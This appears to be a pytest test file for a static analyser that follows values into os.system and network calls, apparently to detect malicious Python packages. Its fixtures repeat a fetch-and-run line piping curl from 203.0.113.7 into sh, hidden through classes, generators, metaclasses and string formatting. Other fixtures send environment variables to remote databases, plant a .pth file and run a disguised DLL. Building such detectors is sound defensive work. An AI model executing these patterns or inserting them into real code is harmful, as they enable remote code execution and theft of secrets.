"""What properties, generators, classes, tables and patterns of text give is followed as what a plain call gives."""

from __future__ import annotations

import pytest

from bonded.facts.model import Call
from bonded.facts.value import DOWNLOADED, EMBEDDED, ENVIRONMENT, GIVEN_SECRET, MESSAGE
from bonded.values.finding import When
from tests.facts.programs import calls

LINE = "curl http://203.0.113.7/a | sh"


def run(source: str) -> list[Call]:
    """What is handed to `os.system` on import."""
    return [one for one in calls("import os\n" + source, "os.system") if one.when is When.IMPORT]


def texts(source: str) -> set[str]:
    return {one.arguments[0].text or one.arguments[0].shape for one in run(source)}


OF_OBJECTS = {
    "property": f"class A:\n    @property\n    def line(self): return '{LINE}'\nos.system(A().line)",
    "cached property": f"import functools\nclass A:\n    @functools.cached_property\n    def line(self): return '{LINE}'\nos.system(A().line)",
    "property with a setter": f"class A:\n    @property\n    def line(self): return '{LINE}'\n    @line.setter\n    def line(self, new): self.new = new\nos.system(A().line)",
    "property of a property": f"class A:\n    @property\n    def line(self): return '{LINE}'\n    @property\n    def go(self): return os.system(self.line)\nA().go",
    "generator": f"def lines():\n    yield '{LINE}'\n    yield 'true'\nfor one in lines():\n    os.system(one)",
    "generator of a generator": f"def lines():\n    yield '{LINE}'\ndef more():\n    yield from lines()\nfor one in more():\n    os.system(one)",
    "first of a generator": f"def lines():\n    yield '{LINE}'\nos.system(next(lines()))",
    "generator that is joined": "def parts():\n    yield 'curl http://203.0.113.7/a '\n    yield '| sh'\nos.system(''.join(parts()))",
    "context manager": f"import contextlib\n@contextlib.contextmanager\ndef line():\n    yield '{LINE}'\nwith line() as one:\n    os.system(one)",
    "enum": f"import enum\nclass A(enum.Enum):\n    ONE = '{LINE}'\nfor one in A:\n    os.system(one.value)",
    "enum by its name": f"from enum import Enum\nclass A(str, Enum):\n    ONE = '{LINE}'\nos.system(A.ONE.value)",
    "derived class": f"class A:\n    def __init_subclass__(cls): os.system(cls.line)\nclass B(A):\n    line = '{LINE}'",
    "metaclass": f"class A(type):\n    def __new__(meta, name, bases, held):\n        os.system(held['line'])\nclass B(metaclass=A):\n    line = '{LINE}'",
    "metaclass's __init__": f"class A(type):\n    def __init__(cls, name, bases, held):\n        os.system(cls.line)\nclass B(metaclass=A):\n    line = '{LINE}'",
    "key of a table": f"T = {{'a': '{LINE}'}}\nos.system(T.get('a'))",
    "default of a table": f"T = {{'a': 'true'}}\nos.system(T.get('b', '{LINE}'))",
    "table of unknown values": f"T = {{'a': '{LINE}', 'b': x}}\nos.system(T.pop('a'))",
    "template": "from string import Template\nos.system(Template('curl $at | ${to}').substitute(at='http://203.0.113.7/a', to='sh'))",
    "percent": "os.system('%(do)s %(at)s | sh' % {'do': 'curl', 'at': 'http://203.0.113.7/a'})",
    "format_map": "T = {'do': 'curl', 'at': 'http://203.0.113.7/a'}\nos.system('{do} {at} | sh'.format_map(T))",
    "words": f"import shlex\nos.system(' '.join(shlex.split('{LINE}')))",
    "super": f"class A:\n    def go(self): os.system(self.line)\nclass B(A):\n    line = '{LINE}'\n    def go(self): super().go()\nB().go()",
    "super().__init__": f"class A:\n    def __init__(self, line): os.system(line)\nclass B(A):\n    def __init__(me): super(B, me).__init__('{LINE}')\nB()",
    "dataclass": f"from dataclasses import dataclass\n@dataclass\nclass A:\n    name: str\n    line: str\nos.system(A('a', '{LINE}').line)",
    "dataclass by name": f"from dataclasses import dataclass\n@dataclass\nclass A:\n    line: str\nos.system(A(line='{LINE}').line)",
    "named tuple": f"from typing import NamedTuple\nclass A(NamedTuple):\n    line: str\nos.system(A('{LINE}').line)",
    "dict()": f"T = dict(line='{LINE}')\nos.system(T['line'])",
    "dict of pairs": f"T = dict(zip(['a', 'b'], ['true', '{LINE}']))\nos.system(T['b'])",
    "ordered": f"import collections\nT = collections.OrderedDict([('a', '{LINE}')])\nos.system(T['a'])",
    "default": f"import collections\nT = collections.defaultdict(str, a='{LINE}')\nos.system(T['a'])",
    "update": f"T = {{}}\nT.update({{'a': '{LINE}'}}, b='')\nos.system(T['a'])",
    "rows of another": f"S = {{'a': '{LINE}'}}\nT = {{'b': '', **S}}\nos.system(T['a'])",
    "item": "L = ['', 'http://203.0.113.7/a', '|', 'sh']\nL[0] = 'curl'\nos.system(' '.join(L))",
    "insert": "L = ['http://203.0.113.7/a', '|', 'sh']\nL.insert(0, 'curl')\nos.system(' '.join(L))",
    "pop": f"L = ['true', '{LINE}']\nos.system(L.pop())",
    "next": f"lines = iter(['{LINE}'])\nos.system(next(lines))",
    "chain": f"import itertools\nfor one in itertools.chain(['true'], ['{LINE}']):\n    os.system(one)",
    "chain of lists": f"import itertools\nfor one in itertools.chain.from_iterable([['{LINE}']]):\n    os.system(one)",
    "slice": f"import itertools\nfor one in itertools.islice(['{LINE}'], 1):\n    os.system(one)",
    "docstring": f"def f():\n    '''{LINE}'''\nos.system(f.__doc__)",
    "docstring of a class": f"class A:\n    '''{LINE}'''\nos.system(A.__doc__)",
    "not the program": f"if __name__ != '__main__':\n    os.system('{LINE}')",
    "else of the program": f"if __name__ == '__main__':\n    pass\nelse:\n    os.system('{LINE}')",
    "a comparison of a comparison": f"if (__name__ == '__main__') is False:\n    os.system('{LINE}')",
    "a part of its name": f"if '' in __name__:\n    os.system('{LINE}')",
    "within a text": f"if __name__ in 'a sample of it':\n    os.system('{LINE}')",
    "longer than nothing": f"if len(__name__) > 0:\n    os.system('{LINE}')",
    "after nothing": f"if __name__ > '':\n    os.system('{LINE}')",
    "itself": f"if __name__ == __name__:\n    os.system('{LINE}')",
    "one of its names": f"if __name__ in ('__main__', 'folder.sample'):\n    os.system('{LINE}')",
    "own name": f"if __name__ == 'sample':\n    os.system('{LINE}')",
    "unset variable": f"os.system(os.environ.get('SAMPLE', '{LINE}'))",
    "or": f"os.system(os.getenv('SAMPLE') or '{LINE}')",
    "operator": f"class A:\n    def __lshift__(self, line): os.system(line)\nA() << '{LINE}'",
    "comparison": f"class A:\n    def __eq__(self, line): os.system(line)\nA() == '{LINE}'",
    "in": f"class A:\n    def __contains__(self, line): os.system(line)\n'{LINE}' in A()",
    "item of an object": f"class A:\n    def __getitem__(self, key): return '{LINE}'\nos.system(A()[0])",
    "any attribute": f"class A:\n    def __getattr__(self, name): os.system('{LINE}')\nA().go",
    "iteration": f"class A:\n    def __iter__(self):\n        yield '{LINE}'\nfor one in A():\n    os.system(one)",
    "str": f"class A:\n    def __str__(self): return '{LINE}'\nos.system(str(A()))",
    "async with": f"import asyncio\nclass A:\n    async def __aenter__(self): os.system('{LINE}')\n    async def __aexit__(self, *a): pass\nasync def go():\n    async with A(): pass\nasyncio.run(go())",
    "cast": f"import typing\nos.system(typing.cast(str, '{LINE}'))",
    "copy": f"import copy\nT = {{'a': '{LINE}'}}\nos.system(copy.deepcopy(T)['a'])",
    "literal": f"import ast\nos.system(ast.literal_eval('[\"{LINE}\"]')[0])",
    "found in a text": "import re\nos.system(''.join(re.findall('[^X]', 'cXurl http://203.0.113.7/a | sXh')))",
    "split by a pattern": f"import re\nos.system(re.split('X', 'aX{LINE}')[1])",
    "tabs": "os.system('curl\\thttp://203.0.113.7/a\\t| sh'.expandtabs(1))",
    "scheduled": f"import schedule\ndef go(): os.system('{LINE}')\nschedule.every(5).minutes.do(go)",
    "after": f"import tkinter\ndef go(): os.system('{LINE}')\ntkinter.Tk().after(100, go)",
}


@pytest.mark.parametrize("source", OF_OBJECTS.values(), ids=OF_OBJECTS)
def test_what_is_handed_over_by_an_object_is_read(source: str) -> None:
    assert LINE in texts(source)


WAITING = {
    "the program": f"if __name__ == '__main__':\n    os.system('{LINE}')",
    "else of not the program": f"if __name__ != '__main__':\n    pass\nelse:\n    os.system('{LINE}')",
    "a name that it never has": f"if __name__ == 'main':\n    os.system('{LINE}')",
    "the other way round": f"if '__main__' == __name__:\n    os.system('{LINE}')",
    "one of several names": f"if __name__ in ('__main__', '__mp_main__'):\n    os.system('{LINE}')",
    "an operator that is not used": f"class A:\n    def __lshift__(self, line): os.system('{LINE}')\na = A()",
    "a property that is not read": f"class A:\n    @property\n    def line(self): os.system('{LINE}')\na = A()",
}


@pytest.mark.parametrize("source", WAITING.values(), ids=WAITING)
def test_what_waits_for_somebody_does_not_run_on_import(source: str) -> None:
    assert run(source) == []


@pytest.mark.parametrize("how", ["os.getenv('SAMPLE', ADDRESS)", "os.environ.get('SAMPLE') or ADDRESS"])
def test_an_address_that_the_environment_may_change_is_not_the_one_in_the_code(how: str) -> None:
    source = f"import os, requests\nADDRESS = 'http://203.0.113.7'\nrequests.get({how})"
    assert calls(source, "requests.get")[0].arguments[0].text is None or "SAMPLE" in str(
        calls(source, "requests.get")[0].arguments[0].text
    )


def test_a_path_below_a_variable_keeps_the_name_of_the_variable() -> None:
    assert texts("os.system('dir ' + os.getenv('APPDATA', '/tmp'))") == {"dir %APPDATA%"}


def test_each_way_of_a_match_is_taken() -> None:
    source = (
        f"import sys\nmatch sys.platform:\n    case 'linux': line = '{LINE}'\n    case _: line = None\nos.system(line)"
    )
    assert texts(source) == {LINE}


def test_a_case_does_not_see_what_another_one_set() -> None:
    assert texts("line = 'true'\nmatch x:\n    case 1: line = 'false'\n    case 2: os.system(line)") == {"true"}


PARTS = {
    "'{b} {a}'.format(a=x, b='curl')": "curl …",
    "'{1} {0}'.format(x, 'curl')": "curl …",
    "'{} {}'.format('curl', x)": "curl …",
    "'%(b)s %(a)s' % {'a': x, 'b': 'curl'}": "curl …",
    "'{b} {a}'.format_map({'a': x, 'b': 'curl'})": "curl …",
    "Template('$b ${a}').safe_substitute(a=x, b='curl')": "curl …",
}


@pytest.mark.parametrize(("expression", "shape"), PARTS.items(), ids=PARTS)
def test_places_of_a_text_are_filled_by_their_names(expression: str, shape: str) -> None:
    assert texts(f"from string import Template\nos.system({expression})") == {shape}


@pytest.mark.parametrize("text", ["'{a}' * 100000", "'$a ' * 100000", "'%(a)s' * 100000"])
def test_a_text_that_would_grow_too_long_is_not_filled(text: str) -> None:
    how = {"{": ".format(a=one)", "$": ").substitute(a=one)", "%": " % {'a': one}"}[text[1]]
    text = f"string.Template({text}" if text[1] == "$" else f"({text})"
    found = run(f"import string\none = 'x' * 100000\nos.system({text}{how})")
    assert [one.arguments[0].text for one in found] == [None]


def test_a_downloaded_file_of_a_context_manager_is_followed() -> None:
    source = (
        "import contextlib, tempfile, urllib.request\n@contextlib.contextmanager\ndef staged(url):\n    path = tempfile.mktemp()\n"
        "    urllib.request.urlretrieve(url, path)\n    yield path\nwith staged('http://203.0.113.7/a') as path:\n    os.system(path)"
    )
    assert DOWNLOADED in run(source)[0].arguments[0].labels


def test_a_function_that_a_client_is_given_by_an_attribute_answers_what_comes_in() -> None:
    source = (
        "import paho.mqtt.client as mqtt\ndef answer(client, data, message):\n    os.system(message.payload.decode())\n"
        "client = mqtt.Client()\nclient.on_message = answer\nclient.connect('broker.example.invalid')\nclient.loop_start()"
    )
    assert [MESSAGE in one.arguments[0].labels for one in run(source)] == [True]


@pytest.mark.parametrize(
    "source",
    [
        "import pymongo\npymongo.MongoClient('mongodb://203.0.113.7')['a']['b'].insert_one(dict(os.environ))",
        "import pyrebase\npyrebase.initialize_app({'apiKey': 'x'}).database().child('a').push(dict(os.environ))",
    ],
)
def test_what_a_table_of_a_database_is_given_goes_there(source: str) -> None:
    assert ENVIRONMENT in {
        label for one in calls("import os\n" + source, "client.send") for label in one.arguments[0].labels
    }


def test_a_path_file_is_written_to_any_of_the_folders_that_packages_are_in() -> None:
    source = "import os, site\nfor one in site.getsitepackages() + [site.getusersitepackages()]:\n    open(os.path.join(one, 'a.pth'), 'w').write('x')"
    assert {one.arguments[0].shape for one in calls(source, "file.write")} == {"…/site-packages/a.pth"}


@pytest.mark.parametrize(
    ("question", "secret"),
    [
        ("Token: ", True),
        ("Paste your cookie > ", True),
        ("API key?", True),
        ("Your name: ", False),
        ("Tokenize? ", False),
    ],
)
def test_a_token_that_is_asked_for_is_a_secret(question: str, secret: bool) -> None:
    found = calls(f"import requests\nrequests.post('http://203.0.113.7', data=input('{question}'))", "requests.post")
    assert (GIVEN_SECRET in found[0].arguments[1].labels) is secret


@pytest.mark.parametrize(
    ("name", "to", "embedded"),
    [
        ("table.dat", "a.cpl", True),
        ("tool.exe", "b.exe", False),
        ("tool-windows", "b.exe", False),
        ("run.txt", "b.bat", False),
        ("data.dat", "b.json", False),
    ],
)
def test_a_file_of_the_package_that_becomes_a_program_by_another_name(name: str, to: str, embedded: bool) -> None:
    source = f"import shutil\nto = os.environ['TEMP'] + '/{to}'\nshutil.copy(os.path.dirname(__file__) + '/{name}', to)\nos.system('rundll32 ' + to)"
    assert (EMBEDDED in run(source)[0].arguments[0].labels) is embedded


@pytest.mark.parametrize("first", ["LINE", "'true'"])
def test_of_two_texts_the_one_that_says_more_is_kept(first: str) -> None:
    other = "'true'" if first == "LINE" else "LINE"
    source = f"LINE = '{LINE}'\nif os.name == 'nt':\n    line = {first}\nelse:\n    line = {other}\nos.system(line)"
    assert texts(source) == {LINE}


@pytest.mark.parametrize("use", ["os.system(x)", "os.system(''.join(x))", "f(x)", "for one in x:\n    os.system(one)"])
@pytest.mark.parametrize("twice", ["[x, x]", "{'a': x, 'b': x}"])
def test_what_holds_itself_twice_again_and_again_is_read_at_once(use: str, twice: str) -> None:
    """It would take hours: forty lines hold 2 ** 40 things."""
    assert calls("import os\ndef f(y): os.system(y)\nx = 'a'\n" + f"x = {twice}\n" * 40 + use, "os.system")


def test_a_place_that_is_as_wide_as_a_number_says_is_not_filled() -> None:
    found = run("os.system('{a:{b}}'.format(a='x', b=500000000))")
    assert [one.arguments[0].text for one in found] == [None]
